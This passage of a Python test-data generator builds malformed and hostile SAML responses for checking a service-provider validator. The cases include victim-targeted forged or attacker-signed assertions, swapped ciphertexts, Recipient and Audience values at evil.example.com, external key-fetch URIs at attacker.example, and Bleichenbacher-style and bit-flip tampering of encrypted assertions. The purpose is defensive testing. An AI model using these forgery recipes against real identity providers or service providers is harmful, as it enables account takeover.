            mutate=lambda d: d.assertion.child("Subject").remove(
                d.assertion.find("Subject/NameID")))
        sem("sem_empty_nameid", "saml_malformed", "empty NameID", nameid="")
        sem("sem_nameid_child_element", "saml_malformed", "NameID with a child element",
            nameid=USER, nameid_raw="B.Simon<b>@contoso.com</b>")
        sem("sem_nameid_only_comment", "saml_malformed", "NameID holding only a comment",
            nameid="", nameid_raw="<!-- B.Simon@contoso.com -->")

        def enc_id(replace):
            def fn(d):
                subj = d.assertion.child("Subject")
                eid = El("EncryptedID", [], [El("xenc:EncryptedData", [("xmlns:xenc", NS_XENC)], [
                    El("xenc:CipherData", [], [El("xenc:CipherValue", [], ["AAAA"])])])])
                if replace == "replace":
                    subj.kids[0] = eid
                elif replace == "add":
                    subj.kids.insert(1, eid)
                else:
                    subj.kids[0] = El("BaseID", [("xmlns:xsi", NS_XSI), ("xsi:type", "x:y"),
                                                 ("xmlns:x", "urn:x")])
            return fn
        sem("sem_encrypted_id_instead_of_nameid", "saml_malformed", "EncryptedID",
            mutate=enc_id("replace"))
        sem("sem_encrypted_id_and_nameid", "saml_malformed", "EncryptedID alongside NameID",
            mutate=enc_id("add"))
        sem("sem_base_id", "saml_malformed", "BaseID", mutate=enc_id("base"))
        # SubjectConfirmation
        sem("sem_no_subject_confirmation", "subject_confirmation_invalid",
            "SubjectConfirmation missing",
            mutate=lambda d: d.assertion.child("Subject").remove(
                d.assertion.find("Subject/SubjectConfirmation")))

        def method(m):
            def fn(d):
                d.assertion.find("Subject/SubjectConfirmation").set("Method", m)
            return fn
        sem("sem_sc_holder_of_key_only", "subject_confirmation_invalid", "holder-of-key only",
            mutate=method("urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"))
        sem("sem_sc_sender_vouches_only", "subject_confirmation_invalid", "sender-vouches only",
            mutate=method("urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"))
        sem("sem_sc_method_missing", "subject_confirmation_invalid", "Method missing",
            mutate=method(None))
        sem("sem_sc_method_case_changed", "subject_confirmation_invalid", "Method case",
            mutate=method(BEARER.replace("bearer", "Bearer")))
        sem("sem_sc_empty", "subject_confirmation_invalid", "empty SubjectConfirmation",
            mutate=lambda d: setattr(d.assertion.find("Subject/SubjectConfirmation"), "attrs",
                                     []) or setattr(d.assertion.find(
                                         "Subject/SubjectConfirmation"), "kids", []))
        sem("sem_sc_no_data", "subject_confirmation_invalid", "SubjectConfirmationData missing",
            mutate=lambda d: setattr(d.assertion.find("Subject/SubjectConfirmation"), "kids", []))
        sem("sem_scd_no_not_on_or_after", "subject_confirmation_invalid",
            "bearer without NotOnOrAfter", scd_not_on_or_after=None)
        for name, rec in (("sem_recipient_other", "https://evil.example.com/saml/acs"),
                          ("sem_recipient_trailing_slash", ACS + "/"),
                          ("sem_recipient_uppercase_host", ACS.replace("app.", "APP.")),
                          ("sem_recipient_port_443", ACS.replace(".com/", ".com:443/")),
                          ("sem_recipient_query", ACS + "?x=1"),
                          ("sem_recipient_percent_encoded", ACS.replace("/acs", "%2Facs")),
                          ("sem_recipient_empty", "")):
            sem(name, "recipient_mismatch", "Recipient (exact match)", recipient=rec)
        sem("sem_recipient_missing", "subject_confirmation_invalid", "Recipient missing",
            recipient=None)
        skew = timedelta(seconds=180)
        sem("sem_scd_expired", "assertion_expired", "SubjectConfirmationData NotOnOrAfter",
            scd_not_on_or_after=ts(now - timedelta(minutes=10)))
        sem("sem_scd_expired_at_skew_boundary", "assertion_expired",
            "NotOnOrAfter + skew == now", scd_not_on_or_after=ts(now - skew, ms=False))
        sem("sem_scd_within_skew", "valid", "NotOnOrAfter + skew just after now",
            scd_not_on_or_after=ts(now - skew + timedelta(seconds=1), ms=False))
        sem("sem_scd_not_before_future", "assertion_not_yet_valid",
            "SubjectConfirmationData NotBefore", scd_not_before=ts(now + timedelta(minutes=10)))
        sem("sem_scd_not_before_at_skew_boundary", "valid", "NotBefore == now + skew",
            scd_not_before=ts(now + skew, ms=False))
        sem("sem_scd_not_before_past_skew", "assertion_not_yet_valid",
            "NotBefore == now + skew + 1s", scd_not_before=ts(now + skew + timedelta(seconds=1),
                                                              ms=False))
        sem("sem_two_bearers_first_recipient_second_expired", "recipient_mismatch",
            "two invalid bearer confirmations: the first one's error is reported",
            recipient="https://evil.example.com/acs", mutate=lambda d: d.assertion.child(
                "Subject").kids.append(El("SubjectConfirmation", [("Method", BEARER)], [
                    El("SubjectConfirmationData", [
                        ("InResponseTo", REQUEST_ID),
                        ("NotOnOrAfter", ts(BASE - timedelta(hours=1))),
                        ("Recipient", ACS)])])))
        sem("sem_two_bearers_first_expired_second_recipient", "assertion_expired",
            "two invalid bearer confirmations: the first one's error is reported",
            scd_not_on_or_after=ts(BASE - timedelta(hours=1)),
            mutate=lambda d: d.assertion.child("Subject").kids.append(El(
                "SubjectConfirmation", [("Method", BEARER)], [El("SubjectConfirmationData", [
                    ("InResponseTo", REQUEST_ID), ("NotOnOrAfter", ts(BASE + timedelta(hours=1))),
                    ("Recipient", "https://evil.example.com/acs")])])))
        # Conditions
        sem("sem_no_conditions", "saml_malformed", "Conditions missing",
            mutate=lambda d: d.assertion.remove(d.assertion.child("Conditions")))
        sem("sem_two_conditions", "saml_malformed", "several Conditions",
            mutate=lambda d: d.assertion.insert_after(d.assertion.child("Conditions"),
                                                      copy.deepcopy(d.assertion.child(
                                                          "Conditions"))))
        sem("sem_conditions_not_before_future", "assertion_not_yet_valid", "Conditions NotBefore",
            not_before=ts(now + timedelta(minutes=10)))
        sem("sem_conditions_not_before_at_skew_boundary", "valid", "NotBefore == now + skew",
            not_before=ts(now + skew, ms=False))
        sem("sem_conditions_not_before_past_skew", "assertion_not_yet_valid",
            "NotBefore == now + skew + 1s",
            not_before=ts(now + skew + timedelta(seconds=1), ms=False))
        sem("sem_conditions_expired", "assertion_expired", "Conditions NotOnOrAfter",
            not_on_or_after=ts(now - timedelta(hours=1)))
        sem("sem_conditions_expired_at_skew_boundary", "assertion_expired",
            "NotOnOrAfter + skew == now", not_on_or_after=ts(now - skew, ms=False))
        sem("sem_conditions_within_skew", "valid", "NotOnOrAfter + skew just after now",
            not_on_or_after=ts(now - skew + timedelta(milliseconds=1)))
        sem("sem_stale_replayed_response", "assertion_expired", "replayed response from "
            "yesterday", issue=BASE - timedelta(days=1),
            authn_instant=BASE - timedelta(days=1, seconds=2))
        # Audience
        sem("sem_audience_other", "audience_mismatch", "audience of another SP",
            audiences=("https://other-app.example.com/saml/metadata",))
        sem("sem_audience_trailing_slash", "audience_mismatch", "audience exact match",
            audiences=(SP_ENTITY + "/",))
        sem("sem_audience_prefix_extension", "audience_mismatch", "audience exact match",
            audiences=(SP_ENTITY + ".evil.com",))
        sem("sem_audience_restriction_empty", "audience_mismatch", "empty AudienceRestriction",
            audiences=())
        sem("sem_no_audience_restriction", "audience_mismatch", "no AudienceRestriction",
            mutate=lambda d: setattr(d.assertion.child("Conditions"), "kids", []))

        def second_ar(d):
            d.assertion.child("Conditions").kids.append(El("AudienceRestriction", [], [
                El("Audience", [], ["https://other-app.example.com/saml/metadata"])]))
        sem("sem_two_audience_restrictions_one_wrong", "audience_mismatch",
            "two AudienceRestrictions must both match", mutate=second_ar)
        sem("sem_audience_extra_configured_not_matching", "audience_mismatch",
            "extraAudiences", audiences=("spn:other",),
            config={"extraAudiences": ["spn:0d1e2f3a-4b5c-6d7e-8f90-a1b2c3d4e5f6"]})
        # AuthnStatement
        sem("sem_no_authn_statement", "saml_malformed", "AuthnStatement missing",
            mutate=lambda d: d.assertion.remove(d.assertion.child("AuthnStatement")))
        sem("sem_session_not_on_or_after_past", "assertion_expired", "SessionNotOnOrAfter",
            session_not_on_or_after=ts(now - timedelta(hours=1)))
        sem("sem_session_not_on_or_after_future", "valid", "SessionNotOnOrAfter",
            session_not_on_or_after=ts(now + timedelta(hours=8)))
        # attributes
        claims = entra_claims(case="x")
        sem("sem_duplicate_attribute_same_statement", "valid",
            "duplicate Attribute Name (merged deterministically, values in document order)",
            attributes=claims + [dict(name=claims[2]["name"], values=[Val("Admin")])])
        sem("sem_duplicate_attribute_across_statements", "valid",
            "duplicate Attribute Name across AttributeStatements (merged, document order)",
            attributes=[claims, [dict(name=claims[5]["name"], values=[Val(VICTIM)])]])
        sem("sem_xml_injection_extra_attribute", "valid",
            "IdP-side XML injection: markup in a value signed as structure",
            attributes=claims + [dict(name="role", values=[Val("reader")]),
                                 dict(name="role", values=[Val("admin")])],
            desc="a user-controlled value closed the Attribute and opened a second 'role' "
            "Attribute before the IdP signed: what the IdP signed is data; the SP returns both "
            "values under one name, never only the first")
        # time formats
        TF = "time format edge cases"
        for name, value in (("sem_time_offset", "2026-01-15T10:55:00+01:00"),
                            ("sem_time_no_zone", "2026-01-15T09:55:00"),
                            ("sem_time_leap_second", "2026-01-15T09:55:60Z"),
                            ("sem_time_year_10000", "10000-01-15T09:55:00Z"),
                            ("sem_time_negative_year", "-0001-01-15T09:55:00Z"),
                            ("sem_time_year_zero", "0000-01-15T09:55:00Z"),
                            ("sem_time_lowercase_z", "2026-01-15T09:55:00z"),
                            ("sem_time_lowercase_t", "2026-01-15t09:55:00Z"),
                            ("sem_time_space_separator", "2026-01-15 09:55:00Z"),
                            ("sem_time_fraction_10_digits", "2026-01-15T09:55:00.1234567890Z"),
                            ("sem_time_empty_fraction", "2026-01-15T09:55:00.Z"),
                            ("sem_time_date_only", "2026-01-15"),
                            ("sem_time_empty", ""),
                            ("sem_time_february_30", "2026-02-30T09:55:00Z"),
                            ("sem_time_hour_24", "2026-01-15T24:00:00Z"),
                            ("sem_time_surrounding_space", " 2026-01-15T09:55:00Z"),
                            ("sem_time_unix_seconds",
                             str(int((BASE - timedelta(minutes=5)).timestamp())))):
            value = rel(value)
            sem(name, "invalid_time", TF + " (Conditions NotBefore %r)" % value,
                not_before=value)
        sem("sem_time_offset_zero", "valid", TF + " (Conditions NotBefore with the zero offset "
            "+00:00: the same instant as Z, accepted)", not_before=rel("2026-01-15T09:55:00+00:00"))
        sem("sem_time_scd_offset", "invalid_time", TF + " (SubjectConfirmationData)",
            scd_not_on_or_after=rel("2026-01-15T12:00:00+01:00"))
        sem("sem_time_issue_instant_lowercase_z", "invalid_time", TF + " (IssueInstant)",
            mutate=lambda d: d.assertion.set("IssueInstant", rel("2026-01-15T10:00:00.512z")))
        sem("sem_time_conditions_not_on_or_after_no_zone", "invalid_time",
            TF + " (Conditions NotOnOrAfter)", not_on_or_after=rel("2026-01-15T11:00:00"))
        sem("sem_time_session_not_on_or_after_offset", "invalid_time",
            TF + " (SessionNotOnOrAfter)",
            session_not_on_or_after=rel("2026-01-15T20:00:00+02:00"))
        # Status
        def status(code, nested=None, remove=None):
            def fn(d):
                st = d.resp.child("Status")
                if remove == "status":
                    d.resp.remove(st)
                    return
                if remove == "code":
                    st.kids = [El("samlp:StatusMessage", [], ["no code"])]
                    return
                sc = st.child("StatusCode")
                sc.set("Value", code)
                if nested:
                    sc.kids.append(El("samlp:StatusCode", [("Value", nested)]))
            return fn
        ST = "urn:oasis:names:tc:SAML:2.0:status:"
        for name, sign, fn, expect in (
                ("sem_status_responder", R, status(ST + "Responder"), "status_not_success"),
                ("sem_status_requester_unsigned_response", "assertion",
                 status(ST + "Requester", ST + "RequestDenied"), "status_not_success"),
                ("sem_status_success_nested_failure", R, status(SUCCESS, ST + "AuthnFailed"),
                 "status_not_success"),
                ("sem_status_success_nested_success", R, status(SUCCESS, SUCCESS), "valid"),
                ("sem_status_case_changed", R, status(ST + "success"), "status_not_success"),
                ("sem_status_value_missing_nested_success", R, status(None, SUCCESS),
                 "status_not_success"),
                ("sem_status_missing", R, status(None, remove="status"), "saml_malformed"),
                ("sem_status_code_missing", R, status(None, remove="code"), "saml_malformed")):
            sem(name, expect, "Status", sign=sign, mutate=fn)
        # attacker flips the Status of an assertion-signed document (harmless but rejected)
        base = self.base("entra2021_assertion_signed_compact")
        reg.add("sem_status_flipped_by_attacker", "semantics", "threats.md §9 Status (unsigned "
                "Response)", "V14", "status_not_success",
                self.splice(base, 'Value="%s"' % SUCCESS, 'Value="%sResponder"' % ST),
                description="Status is read even from an unsigned Response; it can only reject")
        # error response whose Status the attacker flipped to Success
        errb = self.base("entra2021_error_response_signed")
        flipped = re.sub(rb'<samlp:StatusCode Value="[^"]+">\s*<samlp:StatusCode Value="[^"]+"/>'
                         rb'\s*</samlp:StatusCode>',
                         b'<samlp:StatusCode Value="%s"/>' % SUCCESS.encode(), errb)
        if flipped == errb:
            die("could not flip the error status")
        reg.add("sem_error_response_status_flipped", "semantics", "threats.md §9 Status",
                "V3", "assertion_missing", flipped,
                description="signed error Response, Status changed to Success: still no "
                "assertion")
        # encrypted assertions
        enc = El("EncryptedAssertion", [("xmlns", NS_A)], [
            El("xenc:EncryptedData", [("xmlns:xenc", NS_XENC),
                                      ("Type", "http://www.w3.org/2001/04/xmlenc#Element")], [
                El("xenc:EncryptionMethod", [("Algorithm", NS_XENC + "aes256-cbc")]),
                El("xenc:CipherData", [], [El("xenc:CipherValue", [], ["AAAA"])])])])

        def enc_only(d):
            d.resp.kids[d.resp.index(d.assertion)] = copy.deepcopy(enc)
        sem("sem_encrypted_assertion_only", "encrypted_assertion_unsupported",
            "EncryptedAssertion", sign=R, mutate=enc_only)
        sem("sem_encrypted_assertion_next_to_assertion", "unexpected_assertion",
            "EncryptedAssertion next to Assertion (ruby-saml encrypted_new_attack)",
            mutate=lambda d: d.resp.kids.append(copy.deepcopy(enc)))

        def enc_in_advice(d):
            d.assertion.insert_after(d.assertion.child("Conditions"), El("Advice", [], [
                El("EncryptedAssertion", [], copy.deepcopy(enc).kids)]))
        sem("sem_encrypted_assertion_in_advice", "unexpected_assertion",
            "EncryptedAssertion inside Advice", mutate=enc_in_advice)
        sem("sem_success_without_assertion", "assertion_missing", "Success without assertion",
            sign=R, mutate=lambda d: d.resp.remove(d.assertion))

    # -- §10 transport --------------------------------------------------------------------------

    def transport(self):
        BC = "entra2021_assertion_signed_compact"
        xml = self.base(BC)
        ident = self.ident(BC)
        T = "threats.md §10 transport decoding"
        # make the length not a multiple of 3 so that padding exists (trailing newlines are
        # whitespace after the root and change nothing)
        while len(xml) % 3 != 1:
            xml += b"\n"
        b = base64.b64encode(xml).decode()
        assert b.endswith("==") and ("+" in b or "/" in b)

        def add(name, value, expect, desc):
            self.reg.add(name, "transport", T, "V15", expect, value.encode("latin-1")
                         if isinstance(value, str) else value, encoding="base64",
                         identity=ident if expect == "valid" else None, description=desc)

        add("transport_plain", b, "valid", "standard base64, one line")
        add("transport_crlf_76", "\r\n".join(b[i:i + 76] for i in range(0, len(b), 76)) + "\r\n",
            "valid", "MIME style: CRLF every 76 characters")
        add("transport_lf_64_spaces_tabs", "\n".join(
            " \t" + b[i:i + 64] for i in range(0, len(b), 64)), "valid",
            "LF every 64 characters, each line indented with a space and a tab")
        add("transport_leading_trailing_whitespace", "\r\n  " + b + "  \r\n", "valid",
            "whitespace around the value")
        # the rejected encodings start from the small base (keeps the data set small)
        xml = self.base("entra2021_assertion_signed_compact_no_keyinfo")
        while len(xml) % 3 != 1:
            xml += b"\n"
        b = base64.b64encode(xml).decode()
        assert b.endswith("==") and ("+" in b or "/" in b)
        add("transport_bad_character", b[:100] + "*" + b[101:], "invalid_base64",
            "'*' in the middle")
        add("transport_url_safe_alphabet", b.replace("+", "-").replace("/", "_"),
            "invalid_base64", "URL-safe alphabet (- and _)")
        add("transport_missing_padding", b.rstrip("="), "invalid_base64", "padding removed")
        add("transport_extra_padding", b + "=", "invalid_base64", "=== at the end")
        add("transport_data_after_padding", b + "PHNhbWw+", "invalid_base64",
            "more base64 after the padding")
        last = b[-3]
        idx = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".index(last)
        alt = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[idx | 1]
        if alt == last:
            alt = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[idx & ~1]
        add("transport_non_canonical_padding_bits", b[:-3] + alt + "==", "invalid_base64",
            "the unused low bits of the last quantum are not zero")
        add("transport_percent_encoded", b.replace("+", "%2B").replace("/", "%2F").replace(
            "=", "%3D"), "invalid_base64", "still URL-encoded")
        add("transport_nul_byte", b[:50] + "\x00" + b[50:], "invalid_base64", "a NUL byte")
        add("transport_utf8_bom_prefix", "\ufeff".encode("utf-8").decode("latin-1") + b,
            "invalid_base64", "UTF-8 BOM bytes before the base64")
        add("transport_padding_in_middle", b[:40] + "==" + b[40:], "invalid_base64",
            "== in the middle")
        raw = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = raw.compress(xml) + raw.flush()
        try:
            deflated.decode("utf-8")
            die("raw DEFLATE output happens to be UTF-8")
        except UnicodeDecodeError:
            pass
        add("transport_raw_deflate", base64.b64encode(deflated).decode(), "xml_not_utf8",
            "Redirect-binding style raw DEFLATE in a POST (must not be inflated)")
        add("transport_double_base64", base64.b64encode(b.encode()).decode(),
            "xml_content_outside_root", "base64 of the base64 (decodes to text, not XML)")
        add("transport_empty", "", "empty_input", "empty field")
        add("transport_whitespace_only", " \r\n\t ", "empty_input", "only whitespace")
        self.reg.add("transport_2mb", "transport", T, "V15", "limit_exceeded", None,
                     encoding="base64", generate=dict(kind="repeat", unit="QUFB",
                                                      count=2 * 1024 * 1024 // 4),
                     description="2 MiB of base64 (input limit 1 MiB)")


    # -- Encrypted assertions (Entra "Token encryption"; entra-token-encryption.md §2) ---------

    def encryption(self):
        """EncryptedAssertion cases: every content / key-transport pair in Microsoft's (inline)
        and Shibboleth's (sibling) shapes, key rollover, and the refusals of issue 17. Written by
        encrypt.py (Python cryptography + a deterministic OAEP encoding checked by OpenSSL);
        every `valid` one is also decrypted by xmlsec1 (check_valid_with_xmlsec1)."""
        from cryptography.hazmat.primitives import serialization

        def load(name):
            with open(self.km.key(name), "rb") as f:
                return serialization.load_pem_private_key(f.read(), None)

        sp1, sp2, attacker = load("sp-enc"), load("sp-enc2"), load("attacker")
        T = "entra-token-encryption.md §2 / issue 17"
        SPK = {"spKeys": ["sp-enc.key"]}
        issuer_serial = ("CN=app.example.com SAML encryption", int("4E1A7C93B25D08F6", 16))

        def signed_parts(name, sign="assertion", style="entra2021", mutate=None, key="idp",
                         **kw):
            """(response tree, prolog, assertion element, identity) with the assertion signed
            (or not) by `key`, ready to have the assertion replaced."""
            kw.setdefault("keyinfo", None)
            if style.startswith("entra"):
                kw.setdefault("attributes", small_entra_claims(name))
            doc = build(name, style=style, sign="assertion" if sign in ("assertion", "both")
                        else "none", **kw)
            if mutate:
                mutate(doc)
            data = self.S.sign_doc(doc, pretty=False, key=key, verify=key == "idp")
            tree, prolog = parse(data)
            root = tree.getroot()
            return tree, prolog, kids(root, None, "Assertion")[0], doc.identity

        def plaintext_of(assertion):
            return etree.tostring(assertion, encoding="UTF-8", xml_declaration=False)

        def replace(tree, assertion, markup):
            root = tree.getroot()
            enc = etree.fromstring(markup, PARSER)
            enc.tail = assertion.tail
            root.replace(assertion, enc)
            return enc

        def sign_response(tree, prolog, style="entra2021", key="idp"):
            """Adds the Response Signature template right after the Issuer and signs it with
            xmlsec1 (over the EncryptedAssertion, i.e. the ciphertext)."""
            root = tree.getroot()
            st = STYLES[style]
            tmpl = etree.fromstring(signature_skeleton(st["sp"], root.get("ID")).render(False))
            issuer = kids(root, NS_A, "Issuer")[0]
            root.insert(root.index(issuer) + 1, tmpl)
            data = prolog + serialize(tree)
            data = self.resign(data, xpath=XP_R_SIG, key=key, cert=key)
            if key == "idp":
                ok, msg = xmlsec_verify(data, self.km.crt("idp"), XP_R_SIG)
                if not ok:
                    die("response signature over the ciphertext does not verify: " + msg)
            return data

        def case(name, expect, content="aes256-cbc", transport="rsa-oaep-mgf1p",
                 digest="sha1", mgf=None, shape="inline", sign="assertion", config=None,
                 recipients=None, category=None, plaintext=None, tamper=None, post=None,
                 desc="", style="entra2021", inv="V14", **kw):
            tree, prolog, assertion, ident = signed_parts(name, sign, style=style, **kw)
            pt = plaintext(assertion) if plaintext else plaintext_of(assertion)
            rng = encrypt.Rng("%d|%s" % (SEED, name))
            markup = encrypt.encrypted_assertion(
                pt, content, transport, recipients or [sp1], rng, shape=shape, digest=digest,
                mgf=mgf, ids=(make_id(name, "encrypted-data"), make_id(name, "encrypted-key")),
                issuer_serial=issuer_serial if shape == "inline" else None,
                cert_b64=self.km.der_b64["sp-enc"] if shape == "sibling" else None,
                tamper=tamper)
            replace(tree, assertion, markup)
            if sign in ("response", "both"):
                data = sign_response(tree, prolog, style)
            else:
                data = prolog + serialize(tree)
            if post:
                data = post(data)
            cfg = dict(SPK)
            cfg.update(cfg_for_style(style))
            cfg.update(config or {})
            if category is None:
                category = "legit" if expect == "valid" else "attack"
            if expect == "valid" and sign == "response":
                ident = dict(ident)
            self.add(name, category, "threats.md §9 encrypted assertions; " + T, inv, expect,
                     data, cfg, ident if expect == "valid" else None, description=desc,
                     oracle_check=False)
            return data

        def cfg_for_style(style):
            return {"okta": CFG_OKTA, "keycloak": CFG_KEYCLOAK}.get(style, {})

        # every content algorithm x every key transport, in both shapes
        transports = [("mgf1p", "rsa-oaep-mgf1p", "sha1", None),
                      ("mgf1p_sha256", "rsa-oaep-mgf1p", "sha256", None),
                      ("oaep11", "rsa-oaep", None, None),
                      ("oaep11_sha256", "rsa-oaep", "sha256", "sha1"),
                      ("oaep11_mgf256", "rsa-oaep", "sha1", "sha256"),
                      ("oaep11_sha256_mgf256", "rsa-oaep", "sha256", "sha256")]
        for content in ("aes256-cbc", "aes128-cbc", "aes256-gcm", "aes128-gcm", "tripledes-cbc"):
            for tname, transport, digest, mgf in transports:
                for shape in ("inline", "sibling"):
                    name = "enc_%s_%s_%s" % (content.replace("-", ""), tname, shape)
                    case(name, "valid", content, transport, digest, mgf, shape,
                         desc="%s content, %s key transport (DigestMethod %s, MGF %s), "
                         "EncryptedKey %s; assertion signed inside, Response unsigned"
                         % (content, transport, digest, mgf, shape))
        # signing variants (Entra's signing options)
        case("enc_entra_response_and_assertion_signed", "valid", sign="both",
             config={"decryptOnlySignedResponses": True},
             desc="Entra 'Sign SAML response and assertion': the Response signature covers the "
             "ciphertext and is verified before decrypting (decryptOnlySignedResponses)")
        case("enc_entra_response_signed_only", "valid", sign="response",
             desc="Entra 'Sign SAML response': the assertion inside is unsigned, the Response "
             "signature over the ciphertext authenticates it")
        case("enc_only_signed_responses_refuses_unsigned", "encrypted_response_unsigned",
             config={"decryptOnlySignedResponses": True}, category="semantics",
             desc="decryptOnlySignedResponses and an unsigned Response: refused before any key "
             "is used")
        # other IdP shapes
        case("enc_keycloak_prefix_from_response_context", "valid", style="keycloak",
             content="aes128-gcm", transport="rsa-oaep", digest="sha256", mgf="sha256",
             shape="sibling",
             plaintext=lambda a: re.sub(rb' xmlns:saml="[^"]*"', b"", plaintext_of(a), count=1),
             desc="saml: prefix declared only on the Response (the plaintext relies on the "
             "EncryptedAssertion's namespace context, as xmlsec --encrypt writes it)")
        # key rollover
        case("enc_rollover_new_key_first", "valid", recipients=[sp1],
             config={"spKeys": ["sp-enc2.key", "sp-enc.key"]},
             desc="encrypted to the old key, the new key (PKCS#1) configured first")
        case("enc_rollover_to_new_key", "valid", recipients=[sp2], content="aes256-gcm",
             config={"spKeys": ["sp-enc.key", "sp-enc2.key"]},
             desc="encrypted to the new key (PKCS#1), the old one configured first")
        case("enc_rollover_two_encrypted_keys", "valid", recipients=[attacker, sp2],
             shape="sibling", content="aes256-gcm", transport="rsa-oaep",
             config={"spKeys": ["sp-enc2.key"]},
             desc="two EncryptedKeys (another recipient's first); the configured key opens the "
             "second")
        # refusals
        case("enc_nothing_signed", "decryption_failed", sign="none",
             desc="neither the Response nor the decrypted assertion is signed (anyone can "
             "encrypt to the SP certificate)")
        case("enc_forged_unsigned_assertion", "decryption_failed", sign="none",
             nameid=VICTIM, desc="attacker-made assertion for another user, unsigned, "
             "encrypted to the SP's public key")
        case("enc_forged_signed_by_attacker", "decryption_failed", key="attacker",
             nameid=VICTIM, desc="assertion signed with the attacker's key, encrypted to the "
             "SP: the inner signature fails, which an unauthenticated ciphertext may not learn")
        data = case("enc_response_signed_inner_signed_by_attacker", "signature_invalid",
                    sign="both", key="attacker", nameid=VICTIM,
                    desc="IdP-signed Response over a ciphertext whose assertion the attacker "
                    "signed (authenticated ciphertext: the real code)")
        legit = self.reg.cases["enc_entra_response_and_assertion_signed"]["_data"]
        forged = self.reg.cases["enc_forged_unsigned_assertion"]["_data"]
        grab = lambda d: re.search(rb"<EncryptedAssertion.*</EncryptedAssertion>", d, re.S).group(0)  # noqa: E731
        self.add("enc_response_signed_ciphertext_swapped", "attack", "threats.md §9; " + T,
                 "V8", "digest_mismatch", legit.replace(grab(legit), grab(forged)), dict(SPK),
                 description="IdP-signed Response whose EncryptedAssertion the attacker replaced",
                 oracle_check=False)
        case("enc_rsa_1_5", "encryption_rsa_1_5_refused", transport="rsa-1_5",
             desc="key transport RSA PKCS#1 v1.5 (Bleichenbacher)")
        case("enc_cbc_block_flipped", "decryption_failed", tamper="cbc-block",
             desc="one bit of the first AES-CBC ciphertext block flipped (Jager-Somorovsky "
             "style manipulation)")
        case("enc_gcm_tag_flipped", "decryption_failed", content="aes256-gcm",
             tamper="gcm-tag", desc="one bit of the GCM tag flipped")
        case("enc_to_another_key", "decryption_failed", recipients=[attacker],
             desc="encrypted to a key the SP does not have")
        case("enc_no_key_configured", "encrypted_assertion_unsupported",
             config={"spKeys": []}, category="semantics",
             desc="encrypted assertion, no SP decryption key configured")
        case("enc_wrong_content_key_length", "decryption_failed", tamper="wrong-key-length",
             desc="the EncryptedKey unwraps to 40 bytes for AES-256")
        case("enc_aes192_cbc", "encryption_algorithm_unsupported", content="aes192-cbc",
             desc="aes192-cbc is not on the allow-list")
        case("enc_kw_aes256_transport", "encryption_algorithm_unsupported",
             post=lambda d: d.replace(b"2001/04/xmlenc#rsa-oaep-mgf1p",
                                      b"2001/04/xmlenc#kw-aes256"),
             desc="symmetric key wrap instead of RSA-OAEP")
        case("enc_retrieval_method_external", "encrypted_assertion_malformed", shape="sibling",
             post=lambda d: re.sub(rb'URI="#(_[0-9a-f-]+)"/></ds:KeyInfo>',
                                   rb'URI="https://attacker.example/key.xml"/></ds:KeyInfo>',
                                   d, count=1),
             desc="RetrievalMethod to an external URI (never fetched)")
        case("enc_cipher_reference", "encrypted_assertion_malformed",
             post=lambda d: re.sub(rb"<xenc:CipherValue>[^<]*</xenc:CipherValue>",
                                   b'<xenc:CipherReference URI="https://attacker.example/c"/>',
                                   d, count=1),
             desc="CipherReference instead of CipherValue (would fetch)")
        case("enc_wrong_audience_inside", "audience_mismatch",
             audiences=("https://other.example.com/",), category="semantics",
             desc="validly signed assertion for another SP, encrypted to this SP")
        case("enc_expired_inside", "assertion_expired", category="semantics",
             issue=BASE - timedelta(hours=3), authn_instant=BASE - timedelta(hours=3),
             desc="validly signed but expired assertion inside the encryption")
        case("enc_decrypts_to_doctype", "decryption_failed",
             plaintext=lambda a: b'<!DOCTYPE x [<!ENTITY e "x">]>' + plaintext_of(a),
             desc="plaintext with a DOCTYPE (the strict parser refuses it)")
        case("enc_decrypts_to_two_assertions", "decryption_failed",
             plaintext=lambda a: plaintext_of(a) + plaintext_of(a),
             desc="plaintext holds two assertions")
        case("enc_decrypts_to_garbage", "decryption_failed",
             plaintext=lambda a: b"\xff\xfe not XML at all \x00",
             desc="plaintext is not XML")
        case("enc_decrypts_to_response", "decryption_failed",
             plaintext=lambda a: b'<samlp:Response xmlns:samlp="%s"/>' % NS_P.encode(),
             desc="plaintext is an element other than saml:Assertion")
        case("enc_response_signed_decrypts_to_garbage", "decryption_failed", sign="response",
             plaintext=lambda a: b"<Assertion",
             desc="authenticated ciphertext whose plaintext is not XML")
        # structure around the EncryptedAssertion
        enc_markup = encrypt.encrypted_assertion(
            b"<x/>", "aes256-gcm", "rsa-oaep-mgf1p", [sp1], encrypt.Rng("%d|beside" % SEED))
        tree, prolog, assertion, _ = signed_parts("enc_plaintext_assertion_beside")
        assertion.addnext(etree.fromstring(enc_markup, PARSER))
        self.add("enc_plaintext_assertion_beside", "attack", "threats.md §9; " + T, "V3",
                 "unexpected_assertion", prolog + serialize(tree), dict(SPK),
                 description="a signed plaintext Assertion next to an EncryptedAssertion",
                 oracle_check=False)
        two = case("enc_two_encrypted_assertions", "unexpected_assertion",
                   post=lambda d: re.sub(rb"(<EncryptedAssertion.*</EncryptedAssertion>)",
                                         rb"\1\1", d, count=1, flags=re.S),
                   desc="two EncryptedAssertions")
        del two


# ---------------------------------------------------------------------------------------------
# Main


def check_with_oracle(reg):
    problems = []
    for name, e in sorted(reg.cases.items()):
        if not e["_check"] or "generate" in e:
            continue
        data = e["_data"]
        if e["encoding"] != "xml" or data is None:
            continue
        cfg = dict(DEFAULTS)
        cfg.update(e["config"])
        code, ident, why = oracle.evaluate(data, cfg, reg.km.rsa)
        if code == "xml_unknown":
            if e["category"] in ("legit", "semantics") or not e["expect"].startswith("xml_"):
                problems.append("%s: lxml cannot parse it (%s) but expect=%s"
                                % (name, why, e["expect"]))
            continue
        if code != e["expect"]:
            problems.append("%s: expect=%s but the oracle says %s (%s)"
                            % (name, e["expect"], code, why))
        elif code == "valid" and ident != e.get("identity"):
            problems.append("%s: identity differs:\n  oracle: %r\n  manifest: %r"
                            % (name, ident, e.get("identity")))
    return problems


def materialize(gen, files):
    """Builds a recipe case in memory, exactly as documented in README.md ("Recipes")."""
    kind = gen["kind"]
    if kind == "repeat":
        return gen["unit"].encode() * gen["count"]
    base = files[gen["base"]]
